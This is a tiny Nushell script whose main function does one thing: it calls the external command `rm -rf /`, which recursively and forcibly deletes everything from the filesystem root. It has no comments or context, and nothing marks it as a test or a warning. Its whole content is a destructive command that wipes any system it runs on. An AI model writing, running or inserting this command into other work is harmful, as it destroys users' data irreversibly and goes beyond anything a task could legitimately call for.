def main [] {
  ^`rm` -rf /
}
